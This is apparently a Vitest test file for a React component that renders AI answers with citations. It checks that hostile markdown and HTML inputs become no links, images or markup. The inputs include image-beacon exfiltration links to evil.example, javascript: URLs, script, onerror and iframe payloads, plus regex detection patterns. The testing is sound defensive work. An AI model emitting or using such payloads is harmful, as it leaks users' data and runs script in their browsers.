import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { citationOf } from './answer-text.ts';
import { AnswerView } from './answer-view.tsx';

const html = (text: string) =>
  renderToStaticMarkup(
    createElement(AnswerView, {
      text,
      known: new Set([1]),
      cite: (number: number) => createElement('button', null, String(number)),
    }),
  );

const HOSTILE = [
  '![x](https://evil.example/x.png?d=geheim)',
  '[Hier](https://evil.example/?d=geheim)',
  '[Hier](javascript:alert(1))',
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  '<a href="https://evil.example">x</a>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '```html\n<iframe src="https://evil.example"></iframe>\n```',
  '- ![x](//evil.example/x)\n- **[y](//evil.example)**',
  '# <style>*{background:url(https://evil.example)}</style>',
  '<https://evil.example/?d=geheim>',
  '[1]: https://evil.example "x"\n\n[x][1]',
];

const FOREIGN_ELEMENT = /<(?!\/?(?:div|p|ul|ol|li|pre|code|strong|em|button)\b)/;
const ACTIVE_ATTRIBUTE = /<[^>]*\s(?:href|src|on\w+|style)=/;

/** What a renderer that trusts the model makes of it. */
const trusting = (text: string) =>
  text
    .replaceAll(/!\[([^\]]*)\]\(([^)]*)\)/g, '<img alt="$1" src="$2">')
    .replaceAll(/\[([^\]]*)\]\(([^)]*)\)/g, '<a href="$2">$1</a>');

describe('An answer on the page', () => {
  it('would be found out if it were trusted', () => {
    const found = HOSTILE.map(trusting).filter(
      (one) => FOREIGN_ELEMENT.test(one) || ACTIVE_ATTRIBUTE.test(one),
    );
    // The last one is no markup to this renderer, either.
    expect(found).toHaveLength(HOSTILE.length - 1);
  });

  it.each(HOSTILE)('makes no link, image or markup of %s', (text) => {
    expect(html(text)).not.toMatch(FOREIGN_ELEMENT);
    expect(html(text)).not.toMatch(ACTIVE_ATTRIBUTE);
  });

  it('shows sources where they are cited', () => {
    expect(html(`Zwölf ${citationOf(1)}.`)).toContain('<p>Zwölf\u00a0<button>1</button>.</p>');
  });
});
